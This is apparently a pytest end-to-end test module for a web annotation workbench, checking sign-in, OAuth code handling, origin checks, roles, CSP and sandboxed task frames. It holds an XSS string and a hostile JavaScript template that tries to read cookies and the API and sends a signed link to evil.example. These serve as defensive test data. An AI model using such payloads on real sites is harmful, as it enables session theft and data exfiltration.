"""The deployed workbench as browsers reach it: sign-in through the user pool, API, frames, links."""
# ruff: noqa: F811 - fixtures of another module

import html
import json
import re
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import httpx
import pytest
from playwright.sync_api import Page

from recto.aws.dynamodb import Table
from recto.aws.s3 import S3Objects
from recto.aws.shell import utc_now
from recto.places import Location
from recto_local.people import PASSWORD
from recto_workbench.aws.services import S3Links, new_id
from recto_workbench.aws.tables import JobRows, TaskRows, TeamRows
from recto_workbench.jobs import Job
from recto_workbench.steps.assignment import Desk
from recto_workbench.tasks import JobPlaces
from tests.browsers import browser, chromium, context, page  # noqa: F401
from tests.e2e.conftest import CALLER, Pipeline
from tests.workbench_fakes import FakeMessages, add_open_job, add_team

pytestmark = pytest.mark.e2e
DIRECT: dict[str, Any] = {"trust_env": False, "timeout": 60}
"""Of a request to this machine: past any proxy, and patient with a function's cold start."""
TEAM = "web-readers"
HOSTILE = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"
TEMPLATE = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form>
  <img src="{{ task.input['source-ref'] | grant_read_access }}">
  <p id="text">{{ task.input.text }}</p>
  <script>let words = "{{ task.input['textract-ref'] | grant_read_access }}";</script>
</crowd-form>"""


class Browser:
    """Somebody's browser: cookies, and headers as our own pages send them."""

    def __init__(self, url: str) -> None:
        self.url = url
        self.http = httpx.Client(base_url=url, **DIRECT)

    def sign_in(self, name: str, password: str = PASSWORD) -> httpx.Response:
        """Through the user pool's own pages, as a person would; what the last step answered."""
        sent = self.http.get("/api/auth/sign-in", params={"next": "/jobs"})
        back = self.at_the_provider(sent.headers["location"], name, password)
        return self.http.get(back.headers["location"]) if back.status_code == 302 else back

    def at_the_provider(self, location: str, name: str, password: str = PASSWORD) -> httpx.Response:
        page = self.http.get(location)
        fields = dict(re.findall(r'name="(\w+)" value="([^"]*)"', page.text))
        form = {name: html.unescape(value) for name, value in fields.items()}
        parts = urlsplit(location)
        where = f"{parts.scheme}://{parts.netloc}/login"
        return self.http.post(where, data={**form, "username": name, "password": password})

    def get(self, path: str) -> httpx.Response:
        return self.http.get(path)

    def change(self, method: str, path: str, body: Any = None, **headers: str) -> httpx.Response:
        ours = {"X-Recto": "1", "Origin": self.url, "Sec-Fetch-Site": "same-origin"}
        return self.http.request(method, path, json=body, headers={**ours, **headers})


@pytest.fixture(scope="module")
def url(pipeline: Pipeline) -> str:
    return pipeline.info.workbench_url("")


@pytest.fixture(scope="module")
def desk(pipeline: Pipeline) -> Desk:
    table = Table(pipeline.info.outputs["WorkbenchTableName"], CALLER)
    return Desk(
        jobs=JobRows(table), tasks=TaskRows(table), teams=TeamRows(table), objects=S3Objects(CALLER),
        links=S3Links(CALLER), messages=FakeMessages(), clock=utc_now, make_id=new_id,
        work_bucket=pipeline.work,
    )  # fmt: skip


@pytest.fixture(scope="module")
def job(desk: Desk, pipeline: Pipeline) -> Job:
    """A job of the team whose group is `annotators`, with a page image and its words in the work bucket."""
    places = {
        name: Location(bucket=pipeline.work, key=f"corpora/{name}") for name in ("p.png", "p.json", "q")
    }
    for name, place in places.items():
        desk.objects.write(place, f"content of {name}".encode())
    team = add_team(desk, TEAM, groups=("annotators",))
    values = {"source-ref": places["p.png"].uri, "textract-ref": places["p.json"].uri, "text": HOSTILE}
    task = {"TaskAvailabilityLifetimeInSeconds": 10**9, "WorkteamArn": team.arn}  # from the fakes' date on
    return add_open_job(desk, "web-job", num_objects=4, template=TEMPLATE, task_input=values, **task)


@pytest.fixture
def new_browser(url: str) -> Iterator[Callable[[], Browser]]:
    made: list[Browser] = []

    def make() -> Browser:
        made.append(Browser(url))
        return made[-1]

    yield make
    for each in made:
        each.http.close()


@pytest.fixture
def anna(new_browser: Callable[[], Browser]) -> Browser:
    browser = new_browser()
    assert browser.sign_in("anna").status_code == 302
    return browser


def refusal(answer: httpx.Response) -> tuple[int, str]:
    return answer.status_code, answer.json()["error"]


def task_of(browser: Browser) -> dict[str, Any]:
    answer = browser.change("POST", "/api/jobs/web-job/next", {})
    assert answer.status_code == 200, answer.text
    task: dict[str, Any] = answer.json()["task"]
    return task


def test_people_sign_in_through_the_user_pool_and_their_groups_are_their_roles(
    new_browser: Callable[[], Browser],
) -> None:
    olga, ben = new_browser(), new_browser()
    done = olga.sign_in("olga")
    ben.sign_in("ben")

    assert (done.status_code, done.headers["location"]) == (302, "/jobs")
    [cookie] = [each for each in done.headers.get_list("set-cookie") if each.startswith("recto_session")]
    assert "HttpOnly" in cookie
    assert "Path=/api" in cookie
    assert "samesite=lax" in cookie.lower()
    assert olga.get("/api/me").json()["roles"] == ["annotator", "reviewer", "operator"]
    assert ben.get("/api/me").json()["roles"] == ["annotator"]
    assert ben.get("/api/me").json()["name"] == "Ben"


def test_a_wrong_password_signs_nobody_in(new_browser: Callable[[], Browser]) -> None:
    browser = new_browser()

    refused = browser.sign_in("anna", "wrong password")

    assert refused.status_code == 200
    assert "Incorrect username or password" in refused.text
    assert refusal(browser.get("/api/me")) == (401, "NotSignedInError")


def test_a_code_is_good_once_for_who_has_its_secret_at_our_address_only(
    new_browser: Callable[[], Browser],
) -> None:
    browser = new_browser()
    sent = browser.http.get("/api/auth/sign-in").headers["location"]
    back = browser.at_the_provider(sent, "anna").headers["location"]
    asked, got = parse_qs(urlsplit(sent).query), parse_qs(urlsplit(back).query)
    provider = sent.partition("/oauth2/")[0]
    grant = {
        "grant_type": "authorization_code", "client_id": asked["client_id"][0], "code": got["code"][0],
        "redirect_uri": asked["redirect_uri"][0],
    }  # fmt: skip
    without = httpx.post(f"{provider}/oauth2/token", data=grant, **DIRECT)
    wrong = httpx.post(f"{provider}/oauth2/token", data={**grant, "code_verifier": "x" * 64}, **DIRECT)
    elsewhere = {name: values[0] for name, values in asked.items()} | {
        "redirect_uri": "https://evil.example/"
    }
    to_others = httpx.get(f"{provider}/oauth2/authorize?{urlencode(elsewhere)}", **DIRECT)
    first, second = browser.http.get(back), browser.http.get(back)

    assert (without.json()["error"], wrong.json()["error"]) == ("invalid_grant", "invalid_grant")
    assert to_others.status_code == 400
    assert first.status_code == 302
    assert refusal(second) == (401, "NotSignedInError")


def test_signing_out_ends_the_session_everywhere(anna: Browser, url: str) -> None:
    cookie = anna.http.cookies["recto_session"]
    out = anna.change("POST", "/api/auth/sign-out")

    left = httpx.get(out.json()["location"], **DIRECT)
    stolen = httpx.get(f"{url}/api/me", headers={"Cookie": f"recto_session={cookie}"}, **DIRECT)

    assert (left.status_code, left.headers["location"]) == (302, f"{url}/")
    assert refusal(anna.get("/api/me")) == (401, "NotSignedInError")
    assert refusal(stolen) == (401, "NotSignedInError")


def test_changes_from_other_pages_are_refused(anna: Browser, job: Job) -> None:
    path = f"/api/jobs/{job.name}/next"

    foreign = anna.change("POST", path, {}, Origin="https://evil.example")
    frame = anna.change("POST", path, {}, Origin="null")
    form = anna.http.post(path, data={"a": "b"})

    for answer in (foreign, frame, form):
        assert refusal(answer) == (403, "NotAllowedError")


def test_annotators_do_not_stop_jobs(anna: Browser, job: Job) -> None:
    assert refusal(anna.change("POST", f"/api/jobs/{job.name}/stop")) == (403, "NotAllowedError")
    assert refusal(anna.get(f"/api/jobs/{job.name}")) == (403, "NotAllowedError")
    assert [each["name"] for each in anna.get("/api/jobs").json()["jobs"]] == [job.name]


def test_a_task_and_its_frame(anna: Browser, job: Job, url: str) -> None:
    task = task_of(anna)
    page = httpx.get(url + task["frame"], **DIRECT)
    image, words = re.findall(r'(?:src|words ?=) ?=?"(http[^"]+sig[^"]*|http[^"]+Signature[^"]*)"', page.text)
    policy = page.headers["content-security-policy"]

    assert page.status_code == 200
    assert "sandbox allow-scripts allow-forms; default-src 'none'" in policy
    bucket = "{0.scheme}://{0.netloc}/{1}/".format(urlsplit(image), urlsplit(image).path.split("/")[1])
    assert f"connect-src {bucket} data: blob:" in policy
    assert f'window.rectoTask = {{"nonce": "{task["nonce"]}", "description": "Draw boxes"}}' in page.text
    assert "<img src=x" not in page.text
    assert f"{url}/frame-assets/elements.js?v=" in page.text
    shown = httpx.get(image, **DIRECT)
    fetched = httpx.get(words, headers={"Origin": "null"}, **DIRECT)
    foreign = httpx.get(words, headers={"Origin": "https://evil.example"}, **DIRECT)
    assert (shown.text, fetched.text) == ("content of p.png", "content of p.json")
    assert fetched.headers["access-control-allow-origin"] == "null"
    assert "access-control-allow-origin" not in foreign.headers
    assert anna.change("POST", f"/api/tasks/{task['assignment']}/release").json() == {"state": "RETURNED"}
    assert httpx.get(url + task["frame"], **DIRECT).status_code == 409


def test_a_label_image_goes_to_the_bucket_and_the_answer_names_it(anna: Browser, job: Job, url: str) -> None:
    task = task_of(anna)
    path, body = f"/api/tasks/{task['assignment']}", b"\x89PNG\r\n\x1a\n..."
    link = anna.change("POST", f"{path}/uploads", {"content_type": "image/png", "bytes": len(body)}).json()
    answer = {"nonce": task["nonce"], "answer": {"seg": {"labeledImage": {"uploaded": link["upload"]}}}}
    too_early = anna.change("POST", f"{path}/submit", answer)
    asked = {
        "Origin": url,
        "Access-Control-Request-Method": "PUT",
        "Access-Control-Request-Headers": "content-type",
    }
    preflight = httpx.options(link["url"], headers=asked, **DIRECT)
    foreign = httpx.options(link["url"], headers={**asked, "Origin": "null"}, **DIRECT)
    put = httpx.put(link["url"], content=body, headers={**link["headers"], "Origin": url}, **DIRECT)
    taken = anna.change("POST", f"{path}/submit", answer)
    twice = anna.change("POST", f"{path}/submit", answer)

    assert refusal(too_early) == (400, "RequestError")
    assert preflight.headers["access-control-allow-origin"] == url
    assert "access-control-allow-origin" not in foreign.headers
    assert put.status_code == 200
    assert taken.json() == {"state": "SUBMITTED"}
    assert refusal(twice) == (409, "AlreadySubmittedError")


def test_a_task_is_its_workers_alone(anna: Browser, job: Job, new_browser: Callable[[], Browser]) -> None:
    task = task_of(anna)
    ben = new_browser()
    ben.sign_in("ben")
    path, answer = f"/api/tasks/{task['assignment']}", {"nonce": task["nonce"], "answer": {}}

    assert refusal(ben.get(path)) == (403, "NotAllowedError")
    assert refusal(ben.change("POST", f"{path}/submit", answer)) == (403, "NotAllowedError")
    forged = {**answer, "nonce": "forged"}
    assert refusal(anna.change("POST", f"{path}/submit", forged)) == (409, "NonceError")
    assert anna.change("PUT", f"{path}/draft", {"answer": {"a": "ä"}}).status_code == 200
    assert anna.get(path).json()["draft"] == {"a": "ä"}


def test_an_answer_past_the_limit_is_refused_by_name(anna: Browser, job: Job) -> None:
    task = task_of(anna)

    answer = anna.change(
        "PUT", f"/api/tasks/{task['assignment']}/draft", {"answer": {"image": "x" * 5_600_000}}
    )

    assert refusal(answer) == (413, "TooLargeError")


def test_pages_come_with_their_policies(url: str) -> None:
    index = httpx.get(url, **DIRECT)
    [script] = re.findall(r'src="(/assets/[^"]+\.js)"', index.text)
    asset = httpx.get(url + script, **DIRECT)
    elements = httpx.get(f"{url}/frame-assets/elements.js", **DIRECT)

    assert index.headers["cache-control"] == "no-store"
    assert "default-src 'none'; script-src 'self'" in index.headers["content-security-policy"]
    assert "immutable" in asset.headers["cache-control"]
    assert elements.headers["access-control-allow-origin"] == "*"
    assert httpx.get(f"{url}/jobs/some/task", **DIRECT).text == index.text


HOSTILE_TEMPLATE = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form><img id="page" src="{{ task.input['source-ref'] | grant_read_access }}"></crowd-form>
<p id="done"></p>
<script>
const link = "{{ task.input['textract-ref'] | grant_read_access }}", found = {};
const attempt = async (name, work) => {
  try { found[name] = String(await work()); } catch (error) { found[name] = "refused"; }
};
(async () => {
  await attempt("its own words", async () => (await fetch(link)).text());
  await attempt("parent", () => parent.document.title);
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("api", async () => (await fetch("OURS/api/me", {credentials: "include"})).status);
  await attempt("elsewhere", async () => (await fetch("https://evil.example/?" + link)).status);
  await attempt("other services", async () => (await fetch(new URL("/", link))).status);
  await attempt("top", () => { top.location = "https://evil.example/"; });
  await attempt("eval", () => eval("1 + 1"));
  for (const nonce of ["forged", ""])
    parent.postMessage({recto: 1, nonce, type: "submit", answer: {a: 1}}, "*");
  document.getElementById("done").textContent = JSON.stringify({...found, origin: window.origin});
  setTimeout(() => { location = "https://evil.example/?" + link; }, 2000);
})();
</script>"""


def test_a_hostile_template_reaches_nothing_in_a_real_browser(
    desk: Desk,
    job: Job,
    page: Page,
    url: str,
    anna: Browser,
) -> None:
    task_input = json.loads(desk.objects.read(JobPlaces(desk.work_bucket, job.name).task_input(0)))
    task_of = {"TaskAvailabilityLifetimeInSeconds": 10**9, "WorkteamArn": job.team_arn}
    template = HOSTILE_TEMPLATE.replace("OURS", url)
    add_open_job(desk, "hostile-job", num_objects=1, template=template, task_input=task_input, **task_of)
    task = anna.change("POST", "/api/jobs/hostile-job/next", {}).json()["task"]
    asked: list[str] = []
    page.set_default_timeout(60_000)
    page.on("request", lambda request: asked.append(request.url))

    page.goto(f"{url}/api/auth/sign-in?next=/%23/tasks/{task['assignment']}")
    page.fill("#username", "anna")
    page.fill("#password", PASSWORD)
    page.click("button[type=submit]")
    frame = page.frame_locator("iframe.task-frame").first
    found = json.loads(frame.locator("#done").filter(has_text="origin").inner_text())
    page.wait_for_timeout(3000)  # it sends itself elsewhere after two seconds

    assert found.pop("its own words") == "content of p.json"
    assert found.pop("origin") == "null"
    assert set(found.values()) == {"refused"}, found
    assert page.url.startswith(f"{url}/#/tasks/")
    assert [each for each in asked if "evil.example" in each] == []
    assert anna.get(f"/api/tasks/{task['assignment']}").json()["state"] == "STARTED"
